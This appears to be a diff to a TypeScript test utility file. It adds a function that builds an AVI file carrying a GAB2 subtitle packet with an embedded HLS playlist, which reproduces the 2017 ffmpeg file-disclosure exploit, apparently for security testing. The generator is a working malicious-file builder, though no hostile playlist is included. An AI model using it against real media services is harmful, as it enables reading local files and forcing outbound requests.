@@ -50,3 +50,30 @@ export async function truncateCopy(source: string, target: string, keep: number)
   await fs.writeFile(target, bytes.subarray(0, keep))
   return target
 }
+
+/**
+ * The AVI trick from the 2017 ffmpeg file-disclosure reports: a subtitle stream whose first packet is a GAB2
+ * "embedded subtitle file" holding an HLS playlist, then a run of filler packets. Older ffmpeg probed that payload
+ * with every demuxer, so the playlist's entries (URLs, local files) were fetched while the "video" was read.
+ */
+export async function makeGab2PlaylistAvi(file: string, playlist: string): Promise<string> {
+  const chunk = (id: string, data: Buffer) => {
+    const header = Buffer.alloc(8)
+    header.write(id, 0, 'latin1')
+    header.writeUInt32LE(data.length, 4)
+    return Buffer.concat([header, data, Buffer.alloc(data.length % 2)])
+  }
+  const list = (type: string, ...children: Buffer[]) => chunk('LIST', Buffer.concat([Buffer.from(type, 'latin1'), ...children]))
+  const u32 = (...values: number[]) => Buffer.concat(values.map((value) => Buffer.from(new Uint32Array([value]).buffer)))
+  // avih: µs per frame, max bytes/s, padding, flags (has index), frames, initial frames, streams, buffer, 224×160.
+  const avih = chunk('avih', u32(40_000, 0, 0, 0x10, 125, 0, 1, 0, 224, 160, 0, 0, 0, 0))
+  // strh for a 'txts' (subtitle) stream at 25 per second, 125 long; strf as the original exploit wrote it.
+  const strh = chunk('strh', Buffer.concat([Buffer.from('txts', 'latin1'), Buffer.alloc(4), u32(0, 0, 0, 1, 25, 0, 125, 0, 10_000, 0), Buffer.alloc(8)]))
+  const strf = chunk('strf', Buffer.concat([u32(40, 224, 160), Buffer.from([1, 0, 24, 0]), Buffer.from('XVID', 'latin1'), u32(0, 0, 0, 0, 0)]))
+  // GAB2 packet: tag, version 2, empty name (u32 length 0), u16 type, u32 size, then the "subtitle file".
+  const gab2 = Buffer.concat([Buffer.from('GAB2\0', 'latin1'), Buffer.from([2, 0]), Buffer.alloc(10), Buffer.from(playlist)])
+  const packets = [chunk('00tx', gab2), ...Array.from({ length: 50 }, () => chunk('00dc', Buffer.alloc(200)))]
+  const avi = chunk('RIFF', Buffer.concat([Buffer.from('AVI ', 'latin1'), list('hdrl', avih, list('strl', strh, strf)), list('movi', ...packets)]))
+  await fs.writeFile(file, avi)
+  return file
+}
